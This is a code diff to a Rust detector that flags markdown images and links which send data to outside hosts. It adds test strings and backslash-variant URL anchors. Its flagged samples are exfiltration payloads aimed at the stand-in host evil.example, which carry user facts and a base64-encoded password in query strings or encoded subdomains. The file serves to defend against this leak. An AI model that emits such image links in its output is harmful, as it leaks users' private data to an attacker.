@@ -48,6 +48,9 @@ static META: Meta = Meta {
         "![](https://ON2XAZLSEBZWKY3SMV2CA4DBONZXO33SMQ.evil.example/p.png)",
         "![x](<https://evil.example/p.png?q=the user lives in Springfield>)",
         "<https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU>",
+        "![x][1]\n\n[1]: https://evil.example/?q=the+user+lives+in+Springfield\n",
+        "![x](https:\\\\\\\\evil.example/p.png?q=the+user+lives+in+Springfield)",
+        "![x](/\\evil.example/p.png?q=the_user_lives_in_a_small_Springfield)",
     ],
     passes: &[
         "[docs](https://docs.example.com/guide/getting-started?utm_source=chat&utm_medium=link#install)",
@@ -64,7 +67,13 @@ static META: Meta = Meta {
     ],
 };
 
-const ANCHORS: [&str; 6] = ["https://", "http://", "](//", "]( //", "]: //", "](<//"];
+/// Browsers take backslashes for slashes.
+const ANCHORS: [&str; 13] = [
+    "https://", "http://", "https:\\", "http:\\", "https:/\\", "http:/\\", "](//", "]( //", "]: //",
+    "](<//", "](\\\\", "](/\\", "](<\\\\",
+];
+/// How many of them begin with the URL.
+const SCHEMES: usize = 6;
 
 /// Bytes of an image's alternative text that are searched for its `![`.
 const MAX_ALT_BYTES: usize = 160;
@@ -96,7 +105,7 @@ impl Detector for DataLink {
         let bytes = view.bytes();
         for hit in hits {
             // Anchors without a scheme end with the two slashes that begin the URL.
-            let start = if hit.literal < 2 { hit.start } else { hit.end - 2 };
+            let start = if hit.literal < SCHEMES { hit.start } else { hit.end - 2 };
             let position = position(bytes, start);
             let mut cursor = Cursor::new(bytes, start, MAX_URL_BYTES);
             let bracketed = before(bytes, start, 1) == b"<";
@@ -185,8 +194,8 @@ fn slot_closes(url: &[u8]) -> bool {
 fn score(url: &[u8], position: Position) -> Option<f32> {
     let (how, score) = match position {
         Position::Image => (Use::Loaded, 0.9),
-        Position::Definition if is_image_path(url) => (Use::Loaded, 0.8),
-        Position::Definition => (Use::Link, 0.8),
+        // An image may stand anywhere before and name it.
+        Position::Definition => (Use::Defined, 0.8),
         Position::Link | Position::Autolink => (Use::Link, 0.7),
         Position::Bare if is_image_path(url) => (Use::Loaded, 0.7),
         Position::Bare => return None,
